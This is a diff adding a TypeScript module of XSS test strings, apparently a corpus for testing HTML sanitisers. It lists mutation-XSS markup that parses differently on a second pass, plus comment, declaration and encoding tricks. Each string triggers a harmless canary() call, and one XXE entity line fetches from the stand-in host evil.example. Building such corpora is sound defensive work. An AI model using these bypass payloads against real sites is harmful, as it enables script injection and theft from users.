@@ -1,0 +1,52 @@
+// Markup that is read differently by whoever reads it next.
+
+/** What sanitisers have let through: the second parse differs from the first. */
+export const mutations = [
+  '<svg></p><style><a id="</style><img src=1 onerror=canary()>">',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary()&gt;">',
+  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=canary() src>">',
+  "<noscript><style></noscript><img src=x onerror=canary()></style>",
+  "<listing>&lt;img src=1 onerror=canary()&gt;</listing>",
+  '<xmp><p title="</xmp><img src=x onerror=canary()>">',
+  '<noembed><p title="</noembed><img src=x onerror=canary()>">',
+  '<title><p title="</title><img src=x onerror=canary()>">',
+  '<textarea><p title="</textarea><img src=x onerror=canary()>">',
+  "<select><style></select><img src=x onerror=canary()></style>",
+  "<svg><![CDATA[><img src=x onerror=canary()>]]></svg>",
+  '<table><td><svg><desc><td></desc><title><a title="</title><img src onerror=canary()>">',
+  "<option><style></option></select><img src=x onerror=canary()></style>",
+  '<img alt="`" title="` onerror=canary() src=x">',
+  '<p id="\'<img src=x onerror=canary()>">',
+  '<b/a="><img src=x onerror=canary()>">',
+  "<a/<b><img src=x onerror=canary()>",
+  "<<img src=x onerror=canary()>",
+  "<img src=x <!-- onerror=canary() -->",
+  '<br><math><malignmark><style><img title="</style><img src onerror=canary()>">',
+];
+
+/** Comments, declarations and other odd markup, with something after or inside them. */
+export const declarations = [
+  "<!-- --><script>canary()</script>",
+  "<!--><img src=x onerror=canary()>-->",
+  '<!--<img src="--><img src=x onerror=canary()//">',
+  "<!-- <script>canary()</script> --!><img src=x onerror=canary()>",
+  "<![CDATA[<script>canary()</script>]]>",
+  "<![CDATA[x]]><img src=x onerror=canary()>",
+  "<!DOCTYPE html [<!ENTITY x SYSTEM 'https://evil.example/x'>]>&x;",
+  '<?xml-stylesheet href="javascript:canary()"?>',
+  "<?php echo '<script>canary()</script>' ?>",
+  "<!ELEMENT a><img src=x onerror=canary()>",
+  "<!--[if IE]><script>canary()</script><![endif]-->",
+  "<%00script>canary()</script>",
+  "<\x00script>canary()</script>",
+  "<\u200bscript>canary()</\u200bscript>",
+  "＜script＞canary()＜/script＞",
+  "\u00abscript\u00bbcanary()\u00ab/script\u00bb",
+  "+ADw-script+AD4-canary()+ADw-/script+AD4-",
+  "&lt;script&gt;canary()&lt;/script&gt;",
+  "&#60;script&#62;canary()&#60;/script&#62;",
+  "&amp;lt;img src=x onerror=canary()&amp;gt;",
+  "\\<script>canary()\\</script>",
+  "%3Cscript%3Ecanary()%3C/script%3E",
+  "\\x3cscript\\x3ecanary()\\x3c/script\\x3e",
+];
